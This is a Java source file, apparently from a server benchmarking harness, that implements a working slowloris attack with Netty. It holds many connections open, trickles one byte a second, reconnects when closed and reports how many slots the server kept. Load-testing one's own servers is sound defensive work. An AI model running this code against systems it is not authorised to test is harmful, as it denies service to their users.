package dev.ami.bench;

import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import io.netty.channel.ChannelFuture;
import io.netty.channel.ChannelHandlerContext;
import io.netty.channel.ChannelInboundHandlerAdapter;
import io.netty.util.concurrent.ScheduledFuture;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Set;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;

/**
 * Slow clients (slowloris): {@code connections} connections from the given addresses, each sending
 * its request one byte a second, never faster, so that a server that waits for whole requests
 * holds a slot for each. A connection the server closes is opened again a second later, as a
 * slowloris tool does to keep its slots. Everything runs on the attack client's event loop.
 */
final class Trickle implements Attack {

    private static final long SECOND_NANOS = TimeUnit.SECONDS.toNanos(1);

    /** One slow connection. */
    private final class Conn extends ChannelInboundHandlerAdapter {
        private final String from;
        private long openedAt;
        private int sent;
        private boolean answered;
        private ScheduledFuture<?> ticker;
        private ChannelHandlerContext context;

        Conn(String from) {
            this.from = from;
        }

        @Override
        public void channelActive(ChannelHandlerContext ctx) {
            if (!running) {
                // connected after stop(): not one of the attack's any more
                ctx.close();
                return;
            }
            context = ctx;
            openedAt = System.nanoTime();
            open.add(this);
            ticker = ctx.executor().scheduleAtFixedRate(this::nextByte, 0, 1, TimeUnit.SECONDS);
        }

        private void nextByte() {
            if (sent < text.length && context.channel().isActive()) {
                context.writeAndFlush(Unpooled.wrappedBuffer(text, sent++, 1));
                bytesSent.incrementAndGet();
            }
        }

        @Override
        public void channelRead(ChannelHandlerContext ctx, Object msg) {
            ((ByteBuf) msg).release();
            answered = true;
        }

        @Override
        public void channelInactive(ChannelHandlerContext ctx) {
            if (ticker == null) {
                return;
            }
            ticker.cancel(false);
            open.remove(this);
            long lived = System.nanoTime() - openedAt;
            if (running) {
                // the server closed it: at once (refused), or after holding it
                if (lived < SECOND_NANOS) {
                    closedAtOnce.incrementAndGet();
                } else {
                    closedLater.incrementAndGet();
                    longestHeld.accumulateAndGet(lived, Math::max);
                    if (answered) {
                        closedLaterAnswered.incrementAndGet();
                    }
                }
                ctx.channel().eventLoop().schedule(() -> connect(from), 1, TimeUnit.SECONDS);
            }
        }

        @Override
        public void exceptionCaught(ChannelHandlerContext ctx, Throwable cause) {
            ctx.close();
        }

        boolean heldAtLeastASecond(long now) {
            return now - openedAt >= SECOND_NANOS;
        }
    }

    private final AttackClient client;
    private final List<String> sources;
    private final int connections;
    private final int port;
    private final byte[] text;
    private final String what;
    private final Set<Conn> open = ConcurrentHashMap.newKeySet();
    private final AtomicLong connects = new AtomicLong();
    private final AtomicLong connectFailures = new AtomicLong();
    private final AtomicLong bytesSent = new AtomicLong();
    private final AtomicLong closedAtOnce = new AtomicLong();
    private final AtomicLong closedLater = new AtomicLong();
    private final AtomicLong closedLaterAnswered = new AtomicLong();
    private final AtomicLong longestHeld = new AtomicLong();
    private final AtomicInteger mostHeld = new AtomicInteger();
    private volatile boolean running;
    private ScheduledFuture<?> sampler;

    /**
     * @param what        what each connection sends, for the report ("a Login")
     * @param sources     the local addresses, in turn
     * @param connections connections kept going at once
     * @param port        the server port
     * @param text        the bytes each connection sends, one a second (it then waits)
     */
    Trickle(AttackClient client, String what, List<String> sources, int connections, int port, byte[] text) {
        this.client = client;
        this.what = what;
        this.sources = sources;
        this.connections = connections;
        this.port = port;
        this.text = text.clone();
    }

    @Override
    public void start() {
        running = true;
        for (int i = 0; i < connections; i++) {
            connect(sources.get(i % sources.size()));
        }
        sampler = client.group().next().scheduleAtFixedRate(() -> {
            long now = System.nanoTime();
            int held = (int) open.stream().filter(c -> c.heldAtLeastASecond(now)).count();
            mostHeld.accumulateAndGet(held, Math::max);
        }, 1, 1, TimeUnit.SECONDS);
    }

    private void connect(String from) {
        client.keepConnecting(() -> running, from, port, () -> new Conn(from), connects, connectFailures);
    }

    @Override
    public void stop() {
        running = false;
        if (sampler != null) {
            sampler.cancel(false);
        }
        List<ChannelFuture> closing = new ArrayList<>();
        for (Conn c : open) {
            closing.add(c.context.close());
        }
        for (ChannelFuture f : closing) {
            f.awaitUninterruptibly(10, TimeUnit.SECONDS);
        }
    }

    @Override
    public String summary() {
        return String.format(Locale.ROOT, "%d connections from %d addresses (%s…%s), each sending %s a byte a second;"
                        + " %,d connects (%,d failed), %,d bytes sent; at most %d open at once for a second or more;"
                        + " the server closed %,d at once and %,d after holding them (the longest %.1f s; %,d of these"
                        + " had been answered: greeting or HTTP answer)",
                connections, sources.size(), sources.get(0), sources.get(sources.size() - 1), what, connects.get(),
                connectFailures.get(), bytesSent.get(), mostHeld.get(), closedAtOnce.get(), closedLater.get(),
                longestHeld.get() / 1e9, closedLaterAnswered.get());
    }

    @Override
    public String shortfall() {
        if (mostHeld.get() == 0 || bytesSent.get() == 0) {
            return "no slow connection was held open (" + connects.get() + " connects, " + connectFailures.get() + " failed)";
        }
        return null;
    }
}
